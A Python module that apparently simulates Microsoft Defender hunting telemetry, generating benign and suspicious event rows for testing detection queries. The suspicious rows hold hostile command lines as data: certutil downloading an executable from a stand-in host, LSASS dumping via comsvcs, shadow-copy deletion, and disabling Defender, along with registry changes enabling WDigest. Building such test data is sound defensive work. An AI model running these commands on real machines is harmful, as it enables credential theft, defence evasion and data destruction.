"""What happens in a tenant that a hunting query may look for, and what happens all the time.

Each function makes the rows of one occurrence, without their time and their machine. Names of
people, domains and files are invented; public addresses are those that test databases know.
"""

from __future__ import annotations

from collections.abc import Callable
from random import Random
from typing import Any

from aquila_mde.simulator.records_evidence import PEOPLE
from aquila_mde.simulator.seeds import guid_of, hex_of

Row = dict[str, Any]
Maker = Callable[[Random], list[Row]]
_DOMAIN = "contoso"
_SYSTEM32 = "C:\\Windows\\System32"
_USER = "C:\\Users\\{}\\AppData\\Local\\Temp"
_OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16"
_GROUPS = ("Domain Admins", "Enterprise Admins", "Backup Operators")


def public_ip(rng: Random) -> str:
    """An address outside."""
    return rng.choice(("81.2.69.{}", "89.160.20.{}", "216.160.83.{}")).format(rng.randint(56, 190))


def _private_ip(rng: Random) -> str:
    return f"10.{rng.randint(0, 9)}.{rng.randint(0, 250)}.{rng.randint(2, 250)}"


def _account(rng: Random, prefix: str = "Account", name: str | None = None) -> Row:
    name = name or rng.choice(PEOPLE)
    return {
        f"{prefix}Name": name,
        f"{prefix}Domain": _DOMAIN,
        f"{prefix}Sid": f"S-1-5-21-1004336348-1177238915-682003330-{1100 + len(name)}",
        f"{prefix}Upn": f"{name}@contoso.com",
    }


def _hashes(rng: Random, prefix: str = "") -> Row:
    return {
        f"{prefix}SHA1": hex_of(rng, 40),
        f"{prefix}SHA256": hex_of(rng, 64),
        f"{prefix}MD5": hex_of(rng, 32),
    }


def _initiator(rng: Random, image: str, line: str = "", folder: str = _SYSTEM32) -> Row:
    return {
        "InitiatingProcessId": rng.randint(400, 30_000),
        "InitiatingProcessFileName": image,
        "InitiatingProcessFolderPath": f"{folder}\\{image}".lower(),
        "InitiatingProcessCommandLine": line or image,
        "InitiatingProcessIntegrityLevel": "Medium",
        "InitiatingProcessParentId": rng.randint(400, 30_000),
        "InitiatingProcessParentFileName": "explorer.exe",
        **_hashes(rng, "InitiatingProcess"),
        **_account(rng, "InitiatingProcessAccount"),
    }


def _process(rng: Random, parent: str, image: str, line: str, folder: str = _SYSTEM32) -> Row:
    return {
        "ActionType": "ProcessCreated",
        "FileName": image,
        "FolderPath": f"{folder}\\{image}",
        "ProcessId": rng.randint(400, 30_000),
        "ProcessCommandLine": line,
        "ProcessIntegrityLevel": "High",
        "ProcessVersionInfoCompanyName": "Microsoft Corporation",
        "FileSize": rng.randint(20_000, 4_000_000),
        **_hashes(rng),
        **_account(rng),
        **_initiator(rng, parent, folder=_OFFICE if parent == "winword.exe" else _SYSTEM32),
    }


def usual_process(rng: Random) -> list[Row]:
    """A program that is started every day."""
    image, line = rng.choice(
        (
            ("svchost.exe", "svchost.exe -k netsvcs -p"),
            ("chrome.exe", '"chrome.exe" --type=renderer'),
            ("notepad.exe", "notepad.exe notes.txt"),
            ("conhost.exe", "conhost.exe 0xffffffff -ForceV1"),
        )
    )
    return [_process(rng, "explorer.exe", image, line)]


def _one_process(parent: str, image: str, line: str) -> Maker:
    return lambda rng: [_process(rng, parent, image, line.format(hex_of(rng, 6)))]


def _discovery(rng: Random) -> list[Row]:
    person = rng.choice(PEOPLE)
    commands = ("whoami /all", "net user /domain", "ipconfig /all", "nltest /dclist:", "systeminfo")
    return [
        _process(rng, "cmd.exe", f"{line.split()[0]}.exe", line) | _account(rng, name=person)
        for line in commands
    ]


PROCESS: tuple[Maker, ...] = (
    _one_process("cmd.exe", "powershell.exe", "powershell.exe -nop -w hidden -enc SQBFAFgA{}"),
    _one_process("winword.exe", "cmd.exe", "cmd.exe /c start {}.bat"),
    _one_process(
        "cmd.exe", "certutil.exe", "certutil.exe -urlcache -f http://files.example.net/{} a.exe"
    ),
    _one_process(
        "cmd.exe", "rundll32.exe", "rundll32.exe comsvcs.dll, MiniDump 612 C:\\Temp\\{}.dmp full"
    ),
    _one_process("cmd.exe", "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
    _one_process(
        "cmd.exe", "powershell.exe", "powershell.exe Set-MpPreference -DisableRealtimeMonitoring 1"
    ),
    _one_process("wmiprvse.exe", "cmd.exe", "cmd.exe /q /c dir \\\\127.0.0.1\\{}"),
    _one_process("cmd.exe", "schtasks.exe", "schtasks.exe /create /tn {} /tr a.exe /sc onlogon"),
    _one_process("cmd.exe", "rar.exe", "rar.exe a -hp{} C:\\Temp\\out.rar C:\\Shares"),
    _discovery,
)


def _connection(rng: Random, image: str, ip: str, port: int, **more: Any) -> Row:
    return {
        "ActionType": "ConnectionSuccess",
        "LocalIP": _private_ip(rng),
        "LocalPort": rng.randint(49_152, 65_535),
        "RemoteIP": ip,
        "RemotePort": port,
        "RemoteUrl": None,
        "Protocol": "Tcp",
        "LocalIPType": "Private",
        "RemoteIPType": "Private" if ip.startswith("10.") else "Public",
        **_initiator(rng, image),
        **more,
    }


def usual_connection(rng: Random) -> list[Row]:
    """A connection of a browser."""
    url = rng.choice(("www.example.com", "cdn.example.net", "https://mail.example.org/inbox"))
    return [_connection(rng, "chrome.exe", public_ip(rng), 443, RemoteUrl=url)]


def _scan(rng: Random) -> list[Row]:
    network = f"10.{rng.randint(0, 9)}.{rng.randint(0, 250)}"
    head = _connection(rng, "python.exe", "", 445, ActionType="ConnectionFailed")
    return [head | {"RemoteIP": f"{network}.{host}"} for host in range(2, 34)]


def _from_outside(rng: Random) -> list[Row]:
    change = {"ActionType": "InboundConnectionAccepted", "LocalPort": 3389}
    return [_connection(rng, "svchost.exe", public_ip(rng), 51_000) | change]


NETWORK: tuple[Maker, ...] = (
    lambda rng: [_connection(rng, "powershell.exe", public_ip(rng), 8443)],
    lambda rng: [_connection(rng, "tor.exe", public_ip(rng), 9001)],
    lambda rng: [_connection(rng, "system", public_ip(rng), 445)],
    _scan,
    _from_outside,
)


def _file(rng: Random, action: str, name: str, folder: str, image: str, **more: Any) -> Row:
    return {
        "ActionType": action,
        "FileName": name,
        "FolderPath": f"{folder}\\{name}",
        "FileSize": rng.randint(1_000, 900_000_000),
        **_hashes(rng),
        **_initiator(rng, image),
        **more,
    }


def usual_file(rng: Random) -> list[Row]:
    """A file that an application writes."""
    name = f"cache-{hex_of(rng, 8)}.tmp"
    return [_file(rng, "FileCreated", name, _USER.format(rng.choice(PEOPLE)), "chrome.exe")]


def _renames(rng: Random) -> list[Row]:
    return [
        _file(
            rng,
            "FileRenamed",
            f"report-{number}.docx.locked",
            "C:\\Shares\\Finance",
            "updater.exe",
            PreviousFileName=f"report-{number}.docx",
            PreviousFolderPath="C:\\Shares\\Finance",
        )
        for number in range(60)
    ]


_STARTUP = "C:\\Users\\{}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup"
FILE: tuple[Maker, ...] = (
    lambda rng: [
        _file(rng, "FileCreated", "sync.exe", _STARTUP.format(rng.choice(PEOPLE)), "cmd.exe")
    ],
    _renames,
    lambda rng: [
        _file(
            rng,
            "FileCreated",
            f"invoice-{hex_of(rng, 4)}.pdf.exe",
            "C:\\Users\\Public\\Downloads",
            "outlook.exe",
            FileOriginUrl="https://files.example.net/invoice",
        )
    ],
    lambda rng: [
        _file(rng, "FileCreated", f"{hex_of(rng, 6)}.aspx", "C:\\inetpub\\wwwroot", "w3wp.exe")
    ],
)


def _value(rng: Random, key: str, name: str, data: str, kind: str = "String") -> Row:
    return {
        "ActionType": "RegistryValueSet",
        "RegistryKey": key,
        "RegistryValueName": name,
        "RegistryValueData": data,
        "RegistryValueType": kind,
        "PreviousRegistryValueData": None,
        **_initiator(rng, "reg.exe"),
    }


def usual_value(rng: Random) -> list[Row]:
    """A setting that an application remembers."""
    key = "HKEY_CURRENT_USER\\Software\\Contoso\\Viewer"
    return [_value(rng, key, "LastFile", f"notes-{hex_of(rng, 4)}.txt")]


_MACHINE = "HKEY_LOCAL_MACHINE\\SOFTWARE"
_RUN = f"{_MACHINE}\\Microsoft\\Windows\\CurrentVersion\\Run"
_AV = f"{_MACHINE}\\Policies\\Microsoft\\Windows Defender"
_WDIGEST = "HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest"
REGISTRY: tuple[Maker, ...] = (
    lambda rng: [_value(rng, _RUN, f"Sync{hex_of(rng, 3)}", "C:\\Users\\Public\\sync.exe /q")],
    lambda rng: [_value(rng, _AV, "DisableAntiSpyware", "1", "Dword")],
    lambda rng: [_value(rng, _WDIGEST, "UseLogonCredential", "1", "Dword")],
)


def _logon(rng: Random, action: str, kind: str, ip: str, **more: Any) -> Row:
    return {
        "ActionType": action,
        "LogonType": kind,
        "LogonId": rng.randint(100_000, 900_000),
        "IsLocalAdmin": False,
        "FailureReason": "InvalidUserNameOrPassword" if action == "LogonFailed" else None,
        "Protocol": "NTLM",
        "RemoteIP": ip,
        "RemoteIPType": "Private" if ip.startswith("10.") else "Public",
        "RemoteDeviceName": None,
        **_account(rng),
        **_initiator(rng, "lsass.exe"),
        **more,
    }


def usual_logon(rng: Random) -> list[Row]:
    """Somebody comes to work."""
    return [_logon(rng, "LogonSuccess", "Interactive", "")]


def _spray(rng: Random) -> list[Row]:
    ip = _private_ip(rng)
    names = [f"user{number:03}" for number in range(14)]
    return [_logon(rng, "LogonFailed", "Network", ip) | _account(rng, name=name) for name in names]


def _guessed(rng: Random) -> list[Row]:
    person, ip = _account(rng), _private_ip(rng)
    failed = [_logon(rng, "LogonFailed", "Network", ip) | person for _ in range(12)]
    return [*failed, _logon(rng, "LogonSuccess", "Network", ip) | person]


LOGON: tuple[Maker, ...] = (
    _spray,
    _guessed,
    lambda rng: [_logon(rng, "LogonSuccess", "RemoteInteractive", public_ip(rng))],
    lambda rng: [_logon(rng, "LogonSuccess", "Network", _private_ip(rng), IsLocalAdmin=True)],
)


def _event(rng: Random, action: str, image: str, more: Row, **fields: Any) -> Row:
    return {
        "ActionType": action,
        "AdditionalFields": more,
        **_initiator(rng, image),
        **fields,
    }


def usual_event(rng: Random) -> list[Row]:
    """Something that machines tell all the time."""
    return [_event(rng, "ScreenshotTaken", "snippingtool.exe", {"Count": rng.randint(1, 3)})]


def _task(rng: Random) -> Row:
    more = {"TaskName": f"\\Updater{hex_of(rng, 4)}", "TaskContent": "a.exe"}
    return _event(rng, "ScheduledTaskCreated", "schtasks.exe", more)


EVENT: tuple[Maker, ...] = (
    lambda rng: [
        _event(
            rng,
            "AsrOfficeChildProcessBlocked",
            "winword.exe",
            {"IsAudit": "false", "RuleId": "d4f940ab-401b-4efc-aadc-ad5f3c50688a"},
            FileName="cmd.exe",
            FolderPath=f"{_SYSTEM32}\\cmd.exe",
            ProcessCommandLine="cmd.exe /c a.bat",
        )
    ],
    lambda rng: [_task(rng)],
    lambda rng: [
        _event(rng, "UsbDriveMounted", "", {"DriveLetter": "E:", "SerialNumber": hex_of(rng, 10)})
    ],
    lambda rng: [
        _event(
            rng,
            "AntivirusDetection",
            "chrome.exe",
            {"ThreatName": "Trojan:Win32/Sample", "WasRemediated": "true"},
            FileName=f"{hex_of(rng, 6)}.exe",
            FolderPath="C:\\Users\\Public\\Downloads",
            **_hashes(rng),
        )
    ],
)


def usual_image(rng: Random) -> list[Row]:
    """A library of the system."""
    return [_image(rng, "kernelbase.dll", _SYSTEM32)]


def _image(rng: Random, name: str, folder: str) -> Row:
    return {
        "ActionType": "ImageLoaded",
        "FileName": name,
        "FolderPath": f"{folder}\\{name}",
        **_hashes(rng),
        **_initiator(rng, "onedrive.exe"),
    }


IMAGE: tuple[Maker, ...] = (
    lambda rng: [_image(rng, "version.dll", "C:\\Users\\Public\\Libraries")],
)


def _mail(rng: Random, action: str, threat: str | None, **more: Any) -> Row:
    person = rng.choice(PEOPLE)
    return {
        "NetworkMessageId": guid_of(rng),
        "InternetMessageId": f"<{hex_of(rng, 16)}@mail.example.net>",
        "SenderFromAddress": "billing@example.net",
        "SenderMailFromAddress": "bounce@example.net",
        "SenderFromDomain": "example.net",
        "SenderDisplayName": "Billing",
        "SenderIPv4": public_ip(rng),
        "SenderIPv6": None,
        "RecipientEmailAddress": f"{person}@contoso.com",
        "RecipientObjectId": guid_of(rng),
        "Subject": "Your invoice",
        "EmailDirection": "Inbound",
        "DeliveryAction": action,
        "DeliveryLocation": "Inbox/folder" if action == "Delivered" else "Quarantine",
        "ThreatTypes": threat,
        "ThreatNames": None,
        "ConfidenceLevel": '{"Phish":"High"}' if threat else None,
        "DetectionMethods": '{"Phish":["URL malicious reputation"]}' if threat else None,
        "AuthenticationDetails": '{"SPF":"fail","DKIM":"none","DMARC":"fail"}',
        "AttachmentCount": 0,
        "UrlCount": 1,
        "EmailLanguage": "en",
        **more,
    }


def usual_mail(rng: Random) -> list[Row]:
    """A letter that means no harm."""
    return [_mail(rng, "Delivered", None, Subject="Minutes of the meeting")]


def _click(rng: Random, action: str, *, through: bool) -> Row:
    person = rng.choice(PEOPLE)
    return {
        "ActionType": action,
        "Url": "https://login.example.net/verify?id=1",
        "UrlChain": '["https://login.example.net/verify?id=1"]',
        "AccountUpn": f"{person}@contoso.com",
        "IPAddress": public_ip(rng),
        "Workload": "Email",
        "NetworkMessageId": guid_of(rng),
        "ThreatTypes": "Phish" if through or action == "ClickBlocked" else None,
        "IsClickedThrough": through,
    }


def usual_click(rng: Random) -> list[Row]:
    """A link that leads where it should."""
    return [_click(rng, "ClickAllowed", through=False)]


MAIL: tuple[Maker, ...] = (
    lambda rng: [_mail(rng, "Delivered", "Phish")],
    lambda rng: [_mail(rng, "Blocked", "Malware", AttachmentCount=1)],
)
CLICK: tuple[Maker, ...] = (lambda rng: [_click(rng, "ClickAllowed", through=True)],)


def _attachment(rng: Random, name: str, kind: str, threat: str | None) -> Row:
    return {
        "NetworkMessageId": guid_of(rng),
        "SenderFromAddress": "billing@example.net",
        "RecipientEmailAddress": f"{rng.choice(PEOPLE)}@contoso.com",
        "FileName": name,
        "FileType": kind,
        "FileSize": rng.randint(10_000, 900_000),
        "SHA256": hex_of(rng, 64),
        "ThreatTypes": threat,
        "ThreatNames": "Sample" if threat else None,
    }


def usual_attachment(rng: Random) -> list[Row]:
    """A picture."""
    return [_attachment(rng, f"photo-{hex_of(rng, 4)}.jpg", "jpg", None)]


ATTACHMENT: tuple[Maker, ...] = (
    lambda rng: [_attachment(rng, f"invoice-{hex_of(rng, 4)}.iso", "iso", "Malware")],
)


def _moved(rng: Random, action: str) -> Row:
    return {
        "NetworkMessageId": guid_of(rng),
        "InternetMessageId": f"<{hex_of(rng, 16)}@mail.example.net>",
        "Action": "Moved to quarantine",
        "ActionType": action,
        "ActionTrigger": "SpecialAction",
        "ActionResult": "Success",
        "RecipientEmailAddress": f"{rng.choice(PEOPLE)}@contoso.com",
        "DeliveryLocation": "Quarantine",
        "ThreatTypes": "Phish",
    }


REMOVED: tuple[Maker, ...] = (lambda rng: [_moved(rng, "Phish ZAP")],)


def usual_removal(rng: Random) -> list[Row]:
    """Something that an administrator moves."""
    return [_moved(rng, "Manual Remediation")]


def _identity(rng: Random, action: str, ip: str, name: str | None = None) -> Row:
    return {
        "ActionType": action,
        "Application": "Active Directory",
        "LogonType": "Resource access",
        "Protocol": "Kerberos",
        "FailureReason": "WrongPassword" if action == "LogonFailed" else None,
        **_account(rng, name=name),
        "AccountDisplayName": name or "Somebody",
        "DeviceName": "pc-17.corp.contoso.com",
        "IPAddress": ip,
        "Port": rng.randint(49_152, 65_535),
        "DestinationDeviceName": "dc-1.corp.contoso.com",
        "DestinationIPAddress": "10.0.0.10",
        "DestinationPort": 88,
        "TargetDeviceName": "DC-1",
    }


def usual_identity(rng: Random) -> list[Row]:
    """A ticket for a service."""
    return [_identity(rng, "LogonSuccess", _private_ip(rng))]


def _identity_spray(rng: Random) -> list[Row]:
    ip = _private_ip(rng)
    return [_identity(rng, "LogonFailed", ip, f"user{number:03}") for number in range(14)]


def _group_change(rng: Random) -> list[Row]:
    person = rng.choice(PEOPLE)
    return [
        {
            "ActionType": "Group Membership changed",
            "Application": "Active Directory",
            "TargetAccountUpn": f"{rng.choice(PEOPLE)}@contoso.com",
            "TargetAccountDisplayName": "Somebody",
            **_account(rng, name=person),
            "DestinationDeviceName": "dc-1.corp.contoso.com",
            "AdditionalFields": {"TO.GROUP": rng.choice(_GROUPS), "ACTOR.ACCOUNT": person},
        }
    ]


def usual_directory(rng: Random) -> list[Row]:
    """A password that was changed in time."""
    row = _group_change(rng)[0]
    return [row | {"ActionType": "Account Password changed", "AdditionalFields": {}}]


def _question(rng: Random, text: str, target: str) -> Row:
    return {
        "ActionType": "LDAP query",
        "Application": "Active Directory",
        "QueryType": "AllUsers",
        "QueryTarget": target,
        "Query": text,
        "Protocol": "Ldap",
        **_account(rng),
        "DeviceName": "pc-17.corp.contoso.com",
        "IPAddress": _private_ip(rng),
        "DestinationDeviceName": "dc-1.corp.contoso.com",
    }


def usual_question(rng: Random) -> list[Row]:
    """A name that is looked up."""
    return [_question(rng, "(sAMAccountName=printer)", "printer")]


IDENTITY: tuple[Maker, ...] = (_identity_spray,)
DIRECTORY: tuple[Maker, ...] = (_group_change,)
QUESTION: tuple[Maker, ...] = (
    lambda rng: [_question(rng, "(servicePrincipalName=*)", "Domain Admins")],
)
